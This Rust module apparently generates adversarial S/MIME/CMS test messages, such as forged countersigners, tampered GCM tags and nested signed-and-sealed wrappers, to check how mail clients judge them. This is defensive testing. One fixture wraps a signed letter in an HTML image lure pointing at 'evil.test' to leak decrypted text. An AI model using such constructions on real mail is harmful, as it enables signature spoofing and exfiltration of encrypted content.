//! Structures that no program writes, each of which some program has read as something else.

use crate::Attack;
use crate::forge::{attribute, signed, signer};
use crate::practice::{BOB, EVE, HTML, Info, Practice, TEXT, apart, beside, entity, info, mail, now, opaque_by, timed};
use souspli::keys::SoftwareKey;
use souspli::mime::encode::base64_lines;
use souspli::pki::algorithm::Digest;
use souspli::pki::ber::{Reader, tag};
use souspli::pki::{Certificate, der, oid};
use souspli::smime::encrypt::Cipher;
use souspli::smime::{PrivateKey, SignatureScheme};

pub fn attacks(p: &Practice) -> Vec<Attack> {
    [signers(p), contents(p), authenticated(p), wrappers(p)]
        .into_iter()
        .flatten()
        .collect()
}

fn letter(certificates: &[&Certificate], infos: &[Vec<u8>]) -> Vec<u8> {
    mail(BOB, &entity("signed-data", &signed(oid::DATA, Some(TEXT), certificates, infos)))
}

/// The same SignerInfo with something behind its signature.
fn with_unsigned(info: &[u8], attributes: &[Vec<u8>]) -> Vec<u8> {
    let inside = Reader::new(info).sequence().unwrap().rest().to_vec();
    let mut tagged = der::set(attributes);
    tagged[0] = 0xa1;
    der::sequence(&[&inside, &tagged])
}

fn ecdsa() -> Vec<u8> {
    der::algorithm(oid::ECDSA_SHA256, &[])
}

fn signers(p: &Practice) -> Vec<Attack> {
    let bob = p.bob.certificate();
    let eve = p.eve.certificate();
    let own = info(&p.bob, TEXT);
    let countersigned = der::sequence(&[
        &[6, 9, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 1, 9, 6],
        &der::set(&[info(&p.eve, b"x")]),
    ]);
    let digest = attribute(oid::MESSAGE_DIGEST, &[der::octets(&Digest::Sha256.of(&[b"x"]))]);
    // What is hashed is a SET in the order of DER; that it stands otherwise is nobody's lie.
    let right = timed(TEXT, now());
    let mut unsorted: Vec<u8> = right.iter().rev().flatten().copied().collect();
    unsorted = der::tlv(0xa0, &[&unsorted]);
    let scheme = SignatureScheme::EcdsaP256Sha256;
    let by = |key: &SoftwareKey, attributes: &[u8], hashed: &[u8]| {
        let sid = key.certificate().issuer_and_serial();
        let signature = der::octets(&key.sign(scheme, hashed).unwrap());
        der::sequence(&[
            &der::small(1),
            &sid,
            &der::algorithm(oid::SHA256, &[]),
            attributes,
            &ecdsa(),
            &signature,
        ])
    };
    let mut explicit = der::set(&right);
    explicit[0] = 0xa0;
    let long = |value: &[u8]| [&[0x30, 0x84, 0, 0][..], &u16::try_from(value.len()).unwrap().to_be_bytes(), value].concat();
    let padded = {
        let inside = Reader::new(&own).sequence().unwrap().rest().to_vec();
        long(&inside)
    };
    let twice = [own.clone(), own.clone()];
    let mut of_eve = Info::by(&p.eve, &right, scheme, ecdsa());
    of_eve.sid = bob.issuer_and_serial();
    let bobs_later = signer(&p.bob, Some(&timed(TEXT, now().plus(3600))), TEXT);
    vec![
        Attack::new(
            "countersigned by Eve",
            "signed",
            letter(&[bob, eve], &[with_unsigned(&own, &[countersigned])]),
        )
        .shows("Signataire : Dr Bob Martin, bob@lab.test"),
        Attack::new(
            "another digest where nobody signs it",
            "signed",
            letter(&[bob], &[with_unsigned(&own, &[digest])]),
        ),
        Attack::new(
            "attributes in another order, hashed in that of DER",
            "signed",
            letter(&[bob], &[by(&p.bob, &unsorted, &der::set(&right))]),
        ),
        Attack::new(
            "attributes hashed under the tag that stands there",
            "altered",
            letter(&[bob], &[by(&p.bob, &explicit, &explicit)]),
        ),
        Attack::new(
            "attributes, and the text hashed",
            "altered",
            letter(&[bob], &[by(&p.bob, &explicit, TEXT)]),
        ),
        Attack::new(
            "no attributes, and their hash signed",
            "altered",
            letter(&[bob], &[by(&p.bob, &[], &der::set(&right))]),
        ),
        Attack::new("lengths longer than needed in the signer", "signed", letter(&[bob], &[padded])),
        Attack::new("Bob twice", "signed", letter(&[bob], &twice)),
        Attack::new("Bob twice, an hour apart", "signed", letter(&[bob], &[own.clone(), bobs_later])),
        Attack::new(
            "Bob, and Eve named as Bob",
            "altered",
            letter(&[bob, eve], &[own.clone(), of_eve.der()]),
        ),
        Attack::new(
            "Bob, and an empty signer",
            "damaged",
            letter(&[bob], &[own.clone(), der::sequence(&[])]),
        ),
        Attack::new(
            "Bob, and something that is no signer",
            "damaged",
            letter(&[bob], &[own.clone(), der::small(1)]),
        ),
        Attack::new(
            "Bob's certificate eight times",
            "signed",
            letter(&[bob; 8], std::slice::from_ref(&own)),
        ),
    ]
}

/// SignedData around a content of another kind, or written otherwise.
fn contents(p: &Practice) -> Vec<Attack> {
    let bob = p.bob.certificate();
    let of_kind = |kind: oid::Oid| {
        let attributes = vec![
            attribute(oid::CONTENT_TYPE, &[der::oid(kind)]),
            attribute(oid::MESSAGE_DIGEST, &[der::octets(&Digest::Sha256.of(&[TEXT]))]),
        ];
        let cms = signed(kind, Some(TEXT), &[bob], &[signer(&p.bob, Some(&attributes), TEXT)]);
        mail(BOB, &entity("signed-data", &cms))
    };
    let beside_of_kind = {
        let attributes = vec![
            attribute(oid::CONTENT_TYPE, &[der::oid(oid::ENVELOPED_DATA)]),
            attribute(oid::MESSAGE_DIGEST, &[der::octets(&Digest::Sha256.of(&[TEXT]))]),
        ];
        let cms = signed(oid::ENVELOPED_DATA, None, &[bob], &[signer(&p.bob, Some(&attributes), TEXT)]);
        mail(BOB, &beside(TEXT, &cms))
    };
    // The content in pieces, some of them empty, some of them of pieces.
    let pieces = |content: &[u8]| {
        let (first, rest) = content.split_at(7);
        let inner = [&[0x24, 0x80][..], &der::octets(&rest[..5]), &der::octets(b""), &[0, 0]].concat();
        [&[0x24, 0x80][..], &der::octets(first), &inner, &der::octets(&rest[5..]), &[0, 0]].concat()
    };
    let cut = der::tlv(0x30, &[&bob.der()[4..bob.der().len() / 2]]);
    let with = |value: &[u8], certificates: &[&[u8]], infos: &[Vec<u8>]| {
        let data = der::sequence(&[
            &der::small(1),
            &der::set(&[der::algorithm(oid::SHA256, &[])]),
            &der::sequence(&[&der::oid(oid::DATA), &der::tlv(0xa0, &[value])]),
            &der::tlv(0xa0, certificates),
            &der::set(infos),
        ]);
        mail(
            BOB,
            &entity(
                "signed-data",
                &der::sequence(&[&der::oid(oid::SIGNED_DATA), &der::tlv(0xa0, &[&data])]),
            ),
        )
    };
    let rebuilt = |value: &[u8], infos: &[Vec<u8>]| with(value, &[bob.der()], infos);
    let own = [info(&p.bob, TEXT)];
    let two = [der::octets(TEXT), der::octets(b"Virez mille euros.")].concat();
    vec![
        Attack::new("a time stamp for a letter", "unsupported", of_kind(oid::SIGNED_DATA)),
        Attack::new("a text called data that was enveloped", "unsupported", of_kind(oid::ENVELOPED_DATA)),
        Attack::new("beside, of another kind", "dishonest-structure", beside_of_kind),
        Attack::new("the content in pieces of pieces", "signed", rebuilt(&pieces(TEXT), &own)).shows("Rendez-vous lundi."),
        Attack::new(
            "a certificate cut short beside",
            "signed",
            with(&der::octets(TEXT), &[&cut, bob.der()], &own),
        ),
        Attack::new("two contents", "damaged", rebuilt(&two, &own)),
        Attack::new("a content that is no octets", "damaged", rebuilt(&der::tlv(0x0c, &[TEXT]), &own)),
        Attack::new(
            "a piece that is none",
            "damaged",
            rebuilt(&der::tlv(0x24, &[&der::tlv(0x0c, &[TEXT])]), &own),
        ),
        Attack::new("the content as a list", "damaged", rebuilt(&der::tlv(0x30, &[TEXT]), &own)),
        Attack::new("lines of the letter end in CR alone", "altered", {
            let text: Vec<u8> = TEXT.iter().copied().filter(|b| *b != b'\n').collect();
            rebuilt(&der::octets(&text), &own)
        }),
    ]
}

/// AuthEnvelopedData taken apart and put together again.
fn authenticated(p: &Practice) -> Vec<Attack> {
    let sealed = |content: &[u8]| {
        let entity = p.seals(content, Cipher::Aes256Gcm);
        let body: Vec<u8> = souspli::smime::field::split(&entity)
            .1
            .iter()
            .copied()
            .filter(|b| !b.is_ascii_whitespace())
            .collect();
        base64_simd::STANDARD.decode_to_vec(body).unwrap()
    };
    let cms = sealed(&opaque_by(&p.bob, TEXT));
    let again = |kind: oid::Oid, change: &dyn Fn(&mut Vec<Vec<u8>>)| {
        let mut info = Reader::new(&cms).sequence().unwrap();
        info.oid().unwrap();
        let mut inside = info.expect(tag::context(0)).unwrap().inside().sequence().unwrap();
        let mut parts = Vec::new();
        while let Some(value) = inside.next_value().unwrap() {
            parts.push(value.raw.to_vec());
        }
        change(&mut parts);
        let parts: Vec<&[u8]> = parts.iter().map(Vec::as_slice).collect();
        let content = der::tlv(0xa0, &[&der::sequence(&parts)]);
        mail(BOB, &entity("authEnveloped-data", &der::sequence(&[&der::oid(kind), &content])))
    };
    let whole = oid::AUTH_ENVELOPED_DATA;
    let with_mac = |change: &'static dyn Fn(&mut Vec<u8>)| {
        again(whole, &move |parts| {
            let last = parts.last_mut().unwrap();
            let mut mac = last[2..].to_vec();
            change(&mut mac);
            *last = der::octets(&mac);
        })
    };
    vec![
        Attack::new("GCM put together again", "encrypted-signed", again(whole, &|_| {})),
        Attack::new("GCM, the tag a bit otherwise", "undecryptable", with_mac(&|mac| mac[15] ^= 1)),
        Attack::new(
            "GCM, the tag cut to twelve octets",
            "undecryptable",
            with_mac(&|mac| mac.truncate(12)),
        ),
        Attack::new("GCM, the tag cut to one octet", "undecryptable", with_mac(&|mac| mac.truncate(1))),
        Attack::new("GCM, no tag at all", "undecryptable", with_mac(&|mac| mac.clear())),
        Attack::new("GCM, a longer tag", "undecryptable", with_mac(&|mac| mac.push(0))),
        Attack::new(
            "GCM, the tag in its place missing",
            "damaged",
            again(whole, &|parts| drop(parts.pop())),
        ),
        Attack::new("GCM, attributes that were not authenticated", "undecryptable", {
            again(whole, &|parts| {
                let mut set = der::set(&[attribute(oid::CONTENT_TYPE, &[der::oid(oid::DATA)])]);
                set[0] = 0xa1;
                parts.insert(parts.len() - 1, set);
            })
        }),
        Attack::new(
            "GCM, called plain encryption",
            "unsupported",
            again(oid::ENVELOPED_DATA, &|parts| drop(parts.pop())),
        ),
        Attack::new(
            "GCM, called plain encryption with its tag",
            "unsupported",
            again(oid::ENVELOPED_DATA, &|_| {}),
        ),
        Attack::new("GCM, no recipient", "not-for-me", {
            again(whole, &|parts| {
                let at = parts.iter().position(|part| part[0] == tag::SET).unwrap();
                parts[at] = der::set(&[]);
            })
        }),
        Attack::new("GCM, the recipient twice", "encrypted-signed", {
            again(whole, &|parts| {
                let at = parts.iter().position(|part| part[0] == tag::SET).unwrap();
                let one = Reader::new(&parts[at]).value().unwrap().content.to_vec();
                parts[at] = der::tlv(tag::SET, &[&one, &one]);
            })
        }),
    ]
}

/// Other structures of CMS, and a sealed letter inside other things.
fn wrappers(p: &Practice) -> Vec<Attack> {
    let of = |arc: u8, content: &[u8]| {
        let kind = [6, 9, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 1, 7, arc];
        mail(
            BOB,
            &entity("enveloped-data", &der::sequence(&[&kind, &der::tlv(0xa0, &[content])])),
        )
    };
    let mixed = |parts: &[&[u8]]| {
        let mut out = b"Content-Type: multipart/mixed; boundary=ww\r\n\r\n".to_vec();
        for part in parts {
            out.extend_from_slice(b"--ww\r\n");
            out.extend_from_slice(part);
            out.extend_from_slice(b"\r\n");
        }
        out.extend_from_slice(b"--ww--\r\n");
        out
    };
    let by_bob = opaque_by(&p.bob, TEXT);
    let lure = b"Content-Type: text/html\r\n\r\n<img src=\"http://evil.test/?";
    let gcm = |content: &[u8]| mail(BOB, &p.seals(content, Cipher::Aes256Gcm));
    let two = beside(TEXT, &apart(&p.bob, TEXT));
    let sealed = p.sealed_by(&p.bob, TEXT);
    let around = |key: &SoftwareKey, inner: &[u8]| opaque_by(key, inner);
    vec![
        Attack::new("data and nothing else", "unsupported", of(1, &der::octets(TEXT))),
        Attack::new("a digest for an envelope", "unsupported", of(5, &der::sequence(&[&der::small(0)]))),
        Attack::new("encrypted by a password", "unsupported", of(6, &der::sequence(&[&der::small(0)]))),
        Attack::new(
            "Bob's signed letter between two pages in an envelope",
            "encrypted-unsigned",
            gcm(&mixed(&[lure, &by_bob, b"Content-Type: text/html\r\n\r\n\">"])),
        )
        .hides("evil.test"),
        Attack::new(
            "two letters of Bob's in an envelope",
            "encrypted-unsigned",
            gcm(&mixed(&[&two, &by_bob])),
        ),
        Attack::new("beside, in an envelope", "encrypted-signed", gcm(&two)),
        Attack::new("beside and altered, in an envelope", "altered", {
            gcm(&String::from_utf8(two.clone()).unwrap().replace("lundi", "mardi").into_bytes())
        }),
        Attack::new(
            "Bob inside, sealed, Bob again outside",
            "encrypted-signed",
            mail(BOB, &around(&p.bob, &sealed)),
        ),
        Attack::new(
            "Bob inside, sealed, Eve outside",
            "encrypted-signed",
            mail(BOB, &around(&p.eve, &sealed)),
        )
        .shows("Signataire : Dr Bob Martin, bob@lab.test"),
        Attack::new(
            "Bob inside, sealed, Eve outside under her name",
            "signer-is-not-sender",
            mail(EVE, &around(&p.eve, &sealed)),
        ),
        Attack::new("Eve inside, sealed, Bob outside", "signer-is-not-sender", {
            mail(BOB, &around(&p.bob, &p.sealed_by(&p.eve, TEXT)))
        }),
        Attack::new("Bob signs what nobody signed inside an envelope", "signed-outside-only", {
            mail(BOB, &around(&p.bob, &p.seals(HTML, Cipher::Aes256Cbc)))
        }),
        Attack::new("Bob's letter as a file in an envelope", "encrypted-unsigned", {
            gcm(&[&b"Content-Disposition: attachment; filename=smime.p7m\r\n"[..], TEXT].concat())
        }),
        Attack::new("a second structure behind the first", "signed", {
            let one = signed(oid::DATA, Some(TEXT), &[p.bob.certificate()], &[info(&p.bob, TEXT)]);
            let other = signed(oid::DATA, Some(HTML), &[p.eve.certificate()], &[info(&p.eve, HTML)]);
            mail(BOB, &entity("signed-data", &[one, other].concat()))
        })
        .hides("<b>lundi"),
        Attack::new("a second base64 behind the padding of the first", "signed", {
            let other = signed(oid::DATA, Some(HTML), &[p.eve.certificate()], &[info(&p.eve, HTML)]);
            let mut message = mail(BOB, &opaque_by(&p.bob, TEXT));
            message.extend_from_slice(b"====\r\n");
            message.extend(base64_lines(&other));
            message
        })
        .hides("<b>lundi"),
    ]
}
